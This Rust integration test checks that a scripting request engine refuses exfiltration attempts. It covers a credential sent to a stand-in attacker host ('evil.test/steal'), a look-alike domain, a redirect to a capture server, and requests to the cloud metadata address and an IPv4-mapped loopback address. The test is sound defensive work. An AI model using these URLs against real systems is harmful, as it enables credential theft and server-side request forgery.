//! Exfiltration attempts through the server path (`functions/run`) are refused by the request
//! engine: a connection's credential to a host outside its service, to a look-alike host,
//! through a redirect off the allowed hosts; and, without a connection, the cloud metadata
//! address and an IPv4-mapped loopback address. Stand-in routes apply only where configured.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod functions_support;

use functions_support::*;
use serde_json::{Value, json};
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

fn invoke(url: &str, connection: Option<&str>) -> String {
    let connection = connection
        .map(|link| format!(" connection: \"{link}\""))
        .unwrap_or_default();
    format!("r = invokeurl [ url: \"{url}\" type: GET{connection} ];\nreturn r;")
}

fn error_message(report: &Value) -> String {
    report["error"]["message"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exfiltration_attempts_are_refused_on_the_server_path() {
    let Some(issuer) = trestle_testkit::variable_or_skip(
        "TRESTLE_TEST_OIDC_ISSUER",
        "exfiltration_attempts_are_refused",
    ) else {
        return;
    };
    let harness = start(issuer).await;
    // Anything reaching this server would be a leak.
    let capture = MockServer::start().await;
    Mock::given(wiremock::matchers::any())
        .respond_with(ResponseTemplate::new(200).set_body_string("captured"))
        .mount(&capture)
        .await;

    // 1. The Books credential to a host outside the Books service.
    let report = harness
        .run(
            &invoke("https://evil.test/steal", Some(BOOKS_LINK)),
            json!({}),
        )
        .await;
    let message = error_message(&report);
    assert!(
        message.contains("evil.test") && message.contains(BOOKS_LINK),
        "{report}"
    );
    assert_eq!(report["effects"][0]["kind"], "invoke_url");

    // 2. A look-alike host.
    let report = harness
        .run(
            &invoke(
                "https://books.zoho.com.evil.test/api/v3/contacts",
                Some(BOOKS_LINK),
            ),
            json!({}),
        )
        .await;
    let message = error_message(&report);
    assert!(message.contains("books.zoho.com.evil.test"), "{report}");

    // 3. A redirect from the (routed) Books host to somewhere else: the credential never
    //    reaches the other host (the hop is refused or sent without it).
    Mock::given(method("GET"))
        .and(path("/api/v3/redirect"))
        .respond_with(
            ResponseTemplate::new(302)
                .insert_header("location", format!("{}/collect", capture.uri()).as_str()),
        )
        .mount(&harness.books)
        .await;
    let report = harness
        .run(
            &invoke("https://books.zoho.com/api/v3/redirect", Some(BOOKS_LINK)),
            json!({}),
        )
        .await;
    let leaked = capture
        .received_requests()
        .await
        .unwrap()
        .iter()
        .any(|request| request.headers.get("authorization").is_some());
    assert!(!leaked, "the credential followed the redirect: {report}");
    let books_request = &harness.books.received_requests().await.unwrap()[0];
    assert!(books_request.headers.get("authorization").is_some());

    // 4. Cloud metadata and 5. IPv4-mapped loopback, without a connection.
    for url in [
        "http://169.254.169.254/latest/meta-data/".to_owned(),
        format!(
            "http://[::ffff:127.0.0.1]:{}/collect",
            capture.address().port()
        ),
        // 6. The capture server itself: loopback, not routed, so the guard refuses it.
        format!("{}/collect", capture.uri()),
    ] {
        let report = harness.run(&invoke(&url, None), json!({})).await;
        assert!(
            report.get("error").is_some(),
            "{url} was not refused: {report}"
        );
    }
    assert!(
        capture.received_requests().await.unwrap().is_empty(),
        "a request reached the capture server"
    );

    // Routes are per environment: production has none, so the Books host is not routed there
    // and the stand-in sees nothing from a production run.
    let before = harness.books.received_requests().await.unwrap().len();
    let (status, report) = harness
        .post_json(
            "/api/v1/environments/production/functions/run",
            json!({ "script": invoke("https://books.zoho.com/api/v3/contacts", Some(BOOKS_LINK)) }),
        )
        .await;
    assert_eq!(status, 200);
    assert!(report.get("error").is_some(), "{report}");
    assert_eq!(
        harness.books.received_requests().await.unwrap().len(),
        before
    );
}
